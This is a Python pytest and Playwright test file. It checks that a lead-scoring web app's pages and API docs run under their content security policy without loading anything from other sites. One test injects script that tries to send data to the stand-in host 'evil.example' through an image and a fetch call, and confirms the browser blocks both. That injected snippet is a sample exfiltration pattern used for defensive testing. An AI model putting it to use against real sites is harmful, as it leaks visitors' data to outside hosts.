"""The pages under their content security policy, in a browser that says what it forbids."""

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, ConsoleMessage, Page, Request, expect
from support import running_app, when_ready

from leadmodel.model import LeadModel


@pytest.fixture(scope="module")
def full(model_of_kinds: LeadModel, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The address of an app that shows every page."""
    folder = tmp_path_factory.mktemp("full")
    model_of_kinds.save_pretrained(folder / "model")
    with running_app(str(folder / "model"), LEADMODEL_LOG=str(folder / "log")) as address:
        yield address


@pytest.fixture
def page(chromium: Browser) -> Iterator[Page]:
    page = chromium.new_page()
    yield page
    page.close()


@pytest.fixture
def forbidden(page: Page, full: str) -> list[str]:
    """What the browser has not let the page do, and what it was to load from elsewhere."""
    found: list[str] = []

    def hear(message: ConsoleMessage) -> None:
        if "Content Security Policy" in message.text:
            found.append(message.text)

    def see(request: Request) -> None:
        if not request.url.startswith((full, "data:", "blob:")):
            found.append(request.url)

    page.on("console", hear)
    page.on("request", see)
    page.on("pageerror", lambda error: found.append(str(error)))
    return found


def test_each_page_works_under_its_policy(
    full: str, page: Page, forbidden: list[str], model_of_kinds: LeadModel, tmp_path: Path
) -> None:
    page.goto(full)
    when_ready(page)
    page.get_by_role("button", name="Fill in an example").click()
    page.get_by_role("button", name="Score", exact=True).click()
    expect(page.locator(".lm-card")).to_contain_text("% chance")
    example = model_of_kinds.schema.example()
    leads = tmp_path / "leads.csv"
    leads.write_text("\n".join([",".join(example), *[",".join(map(str, example.values()))] * 20]))
    names = [tab.inner_text() for tab in page.get_by_role("tab").all()]
    assert {"Lead", "List", "Model", "Insights", "Segments", "Monitoring"} <= set(names)
    for name in names:
        page.get_by_role("tab", name=name, exact=True).click()
        if name == "List":
            page.locator("input[type=file]").first.set_input_files(leads)
            with page.expect_download(timeout=60_000):
                page.get_by_role("button", name="Download CSV").click(timeout=60_000)
        page.wait_for_load_state("load")
        expect(page.get_by_role("tabpanel")).to_contain_text(" ", timeout=60_000)
    page.get_by_role("button", name="Use via API").first.click()
    expect(page.get_by_text("Streamable HTTP").first).to_be_visible()
    assert forbidden == []


def test_the_documentation_loads_nothing_from_elsewhere(
    full: str, page: Page, forbidden: list[str]
) -> None:
    page.goto(f"{full}/docs")
    expect(page.locator(".opblock")).to_have_count(4)
    assert forbidden == []


def test_a_page_reaches_no_other_site(full: str, page: Page, forbidden: list[str]) -> None:
    page.goto(f"{full}/docs")
    page.evaluate(
        """() => {
          document.head.append(Object.assign(new Image(), {src: "https://evil.example/?lead"}));
          return fetch("https://evil.example/?lead").catch(() => 0);
        }"""
    )
    told = " ".join(text for text in forbidden if "Content Security Policy" in text)
    assert ("img-src" in told, "connect-src" in told) == (True, True)
